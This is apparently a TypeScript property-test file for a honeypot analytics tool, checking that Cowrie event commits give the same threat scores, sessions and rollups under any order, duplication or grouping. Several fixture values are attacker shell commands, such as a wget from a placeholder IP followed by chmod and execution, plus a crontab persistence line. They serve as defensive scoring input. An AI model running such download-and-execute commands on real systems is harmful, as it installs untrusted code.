import { readFileSync } from 'node:fs'
import type { Event } from '@eviltwin/contract'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { SessionRow } from '../../domain/session.js'
import { anEvent } from '../../testing/events.js'
import { realLines } from '../../testing/real-data.js'
import { createModelScorer } from '../scoring/model-scorer.js'
import { THREAT_MODEL } from '../scoring/models/model-file.js'
import { createRuleScorer } from '../scoring/rules.js'
import type { Scorer } from '../scoring/scorer.js'
import { parseThreatModel } from '../scoring/threat-model.js'
import { Rejection } from '../sensors/adapters/adapter.js'
import { normalize } from '../sensors/adapters/normalize.js'
import { planCommit } from './commit-plan.js'
import type { CommitPlan } from './commit-rows.js'

/** Rules, and the model that ships: a score depends on the session's own events, whoever gives it. */
const SCORERS = [createRuleScorer(), createModelScorer(parseThreatModel(readFileSync(THREAT_MODEL, 'utf8')))]
const [scorer] = SCORERS as [Scorer]

/** What a store holds after committing the groups one after another: the meaning of the SQL, in a few lines. */
function storeAfter(groups: readonly Event[][], scorer: Scorer) {
  const known = new Set<string>()
  const sessions = new Map<string, SessionRow>()
  const totals = new Map<string, number>()
  const bounds = new Map<string, string>()
  const add = (key: string, by: number) => totals.set(key, (totals.get(key) ?? 0) + by)
  const widen = (key: string, first: string, last: string) => {
    const low = bounds.get(`first ${key}`)
    const high = bounds.get(`last ${key}`)
    bounds.set(`first ${key}`, low !== undefined && low < first ? low : first)
    bounds.set(`last ${key}`, high !== undefined && high > last ? high : last)
  }
  for (const group of groups) {
    const fresh = group.filter(({ id }) => !known.has(id) && known.add(id))
    const plan: CommitPlan = planCommit(fresh, sessions, scorer)
    for (const session of plan.sessions) sessions.set(session.id, session)
    for (const row of plan.attackers) {
      add(`attacker events ${row.source_ip}`, row.event_count)
      add(`attacker sessions ${row.source_ip}`, row.session_count)
      widen(row.source_ip, row.first_seen_at, row.last_seen_at)
      const key = `score ${row.source_ip}`
      totals.set(key, Math.max(totals.get(key) ?? 0, row.threat_score))
    }
    for (const row of plan.sensors) {
      add(`sensor ${row.sensor_id}`, row.event_count)
      add(`sensor sessions ${row.sensor_id}`, row.session_count)
    }
    for (const row of plan.eventRollups)
      add(`${row.span} ${row.bucket} ${row.sensor_id} ${row.event_type}`, row.events)
    for (const row of plan.sessionRollups)
      add(`${row.span} ${row.bucket} ${row.sensor_id} ${row.threat_level}`, row.sessions)
    for (const row of plan.attackerHours) add(`hour ${row.bucket} ${row.source_ip}`, row.events)
  }
  const comparable = [...sessions.values()].map(({ version: _, ...session }) => session)
  return {
    sessions: comparable.sort((a, b) => (a.id < b.id ? -1 : 1)),
    totals: Object.fromEntries([...totals].filter(([, total]) => total !== 0).sort()),
    bounds: Object.fromEntries([...bounds].sort()),
  }
}

/** Any shuffle, with any events repeated, cut into any groups. */
function disorderOf(events: readonly Event[]) {
  return fc
    .record({
      order: fc.shuffledSubarray([...events.keys()], { minLength: events.length, maxLength: events.length }),
      repeated: fc.array(fc.nat(events.length - 1), { maxLength: 20 }),
      groupSize: fc.integer({ min: 1, max: events.length }),
      seed: fc.nat(),
    })
    .map(({ order, repeated, groupSize, seed }) => {
      const sequence = [...order]
      for (const [step, index] of repeated.entries())
        sequence.splice((seed + step * 7919) % sequence.length, 0, index)
      const groups: Event[][] = []
      for (let at = 0; at < sequence.length; at += groupSize) {
        groups.push(sequence.slice(at, at + groupSize).map((index) => events[index] as Event))
      }
      return groups
    })
}

const arbitraryEvent = fc
  .record({
    id: fc.uuid(),
    occurred_at: fc
      .date({
        min: new Date('2026-03-22T10:00:00Z'),
        max: new Date('2026-03-22T14:00:00Z'),
        noInvalidDate: true,
      })
      .map((date) => `${date.toISOString().slice(0, -1)}000Z`),
    event_type: fc.constantFrom(
      'connect',
      'login_attempt',
      'command',
      'file_download',
      'proxy_request',
      'disconnect',
      'other',
    ),
    outcome: fc.constantFrom('success', 'failure', null),
    command: fc.constantFrom(
      null,
      'uname -a',
      'echo x | crontab -',
      'wget http://192.0.2.1/x; chmod +x x; ./x',
      'crontab -l',
    ),
    source_ip: fc.constantFrom('203.0.113.7', '203.0.113.8'),
    session_key: fc.constantFrom('s1', 's2', 's3'),
    sensor_id: fc.constantFrom('cowrie-1', 'cowrie-2'),
    protocol: fc.constantFrom('ssh', 'telnet', null),
    client: fc.option(fc.string({ maxLength: 3 })),
  })
  .map((details) => anEvent(details as Parameters<typeof anEvent>[0]))

test.each(SCORERS)(
  'any order, repetition and grouping of events gives the same scores, sessions, attackers and rollups by $name',
  (scorer) => {
    const events = fc.uniqueArray(arbitraryEvent, { minLength: 1, maxLength: 40, selector: ({ id }) => id })
    const cases = events.chain((list) => fc.tuple(fc.constant(list), disorderOf(list)))
    fc.assert(
      fc.property(cases, ([list, groups]) => {
        expect(storeAfter(groups, scorer)).toEqual(storeAfter([list], scorer))
      }),
      { numRuns: 200 },
    )
  },
)

describe.runIf(realLines('cowrie').length > 0)('a real day, shuffled and partly sent twice', () => {
  const events = realLines('cowrie')
    .slice(0, 1500)
    .flatMap((line) => {
      const result = normalize(JSON.parse(line), line, { received_at: '2026-11-24T12:00:00.000000Z' })
      return result instanceof Rejection ? [] : result
    })

  test.each(SCORERS)('gives the same by $name', (scorer) => {
    const expected = storeAfter([events], scorer)
    fc.assert(
      fc.property(disorderOf(events), (groups) => {
        expect(storeAfter(groups, scorer)).toEqual(expected)
      }),
      { numRuns: 5 },
    )
  })

  test('scores a session the same, whatever else its attacker did', () => {
    const own = new Map<string, Event[]>()
    for (const event of events) own.set(event.session_id, [...(own.get(event.session_id) ?? []), event])
    const scores = new Map(
      planCommit(events, new Map(), SCORERS[1] as Scorer).sessions.map((each) => [
        each.id,
        each.threat_score,
      ]),
    )
    for (const [id, alone] of own) {
      const [session] = planCommit(alone, new Map(), SCORERS[1] as Scorer).sessions
      expect(session?.threat_score).toBe(scores.get(id))
    }
  })
})

test('a session moves between rollup rows when it becomes more severe or starts earlier than was known', () => {
  const later = anEvent({ occurred_at: '2026-03-22T12:30:00.000000Z' })
  const first = planCommit([later], new Map(), scorer)
  const stored = new Map(first.sessions.map((session) => [session.id, session]))
  const earlier = anEvent({
    occurred_at: '2026-03-22T11:30:00.000000Z',
    event_type: 'command',
    command: 'wget x; chmod 777 x; ./x',
  })
  const hours = planCommit([earlier], stored, scorer).sessionRollups.filter(({ span }) => span === 'hour')
  expect(hours).toMatchObject([
    { bucket: '2026-03-22T11:00:00.000000Z', threat_level: 'high', sessions: 1 },
    { bucket: '2026-03-22T12:00:00.000000Z', threat_level: 'low', sessions: -1 },
  ])
})

test('an attacker may not make the sets of a session long', () => {
  const events = Array.from({ length: 50 }, (_, index) =>
    anEvent({ client: `client ${index}`, protocol: `p${index}` }),
  )
  const [session] = planCommit(events, new Map(), scorer).sessions
  expect(session?.clients).toHaveLength(16)
  expect(session?.protocols).toHaveLength(16)
})
